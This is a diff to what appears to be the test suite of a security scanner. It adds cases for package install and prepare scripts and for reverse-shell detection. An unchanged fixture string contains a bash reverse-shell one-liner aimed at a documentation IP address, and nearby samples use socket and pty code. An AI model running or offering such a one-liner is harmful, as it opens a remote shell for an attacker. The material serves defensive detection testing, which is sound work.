@@ -244,6 +244,11 @@ silent("pretest_script", "package_preinstall_script",
 fires("prepare_husky", "package_lifecycle_script", "warning",
       sample("packages/package-prepare.json", '{\n  "name": "app",\n  "scripts": {\n    "prepare": "husky",\n    "build": "tsc"\n  }\n}\n'),
       "package.json")
+silent("prepare_of_installed_dependency", "package_lifecycle_script", "packages/package-prepare.json",
+       "node_modules/glob/package.json")
+fires("postinstall_node_gyp", "package_lifecycle_script", "warning",
+      sample("packages/package-postinstall.json", '{\n  "name": "native-thing",\n  "scripts": {\n    "postinstall": "node-gyp rebuild"\n  }\n}\n'),
+      "node_modules/native-thing/package.json")
 silent("install_deps_script_name", "package_lifecycle_script",
        sample("packages/package-install-deps.json", '{\n  "name": "app",\n  "scripts": {\n    "install-deps": "npm ci",\n    "postbuild": "node scripts/copy.js"\n  },\n  "description": "Run install before use"\n}\n'),
        "package.json")
@@ -464,6 +469,9 @@ fires("node_net_spawn", "reverse_shell", "critical",
 silent("reverse_shell_in_docs", "reverse_shell",
        sample("code/security.md", "# Detecting reverse shells\n\nA classic one-liner:\n\n    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"),
        "docs/security.md")
+silent("python_cgi_dup2", "reverse_shell",
+       sample("code/cgi.py", "import os, select\n\ndef run_cgi(self):\n    os.dup2(self.rfile.fileno(), 0)\n    os.dup2(self.wfile.fileno(), 1)\n    os.execve(scriptfile, args, env)\n"),
+       "lib/cgi.py")
 silent("python_socket_server", "reverse_shell",
        sample("code/server.py", "import socket, pty, os\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('127.0.0.1', port))\n"
               "    s.listen()\n\ndef shell():\n    pid, fd = pty.fork()\n    return fd\n"),
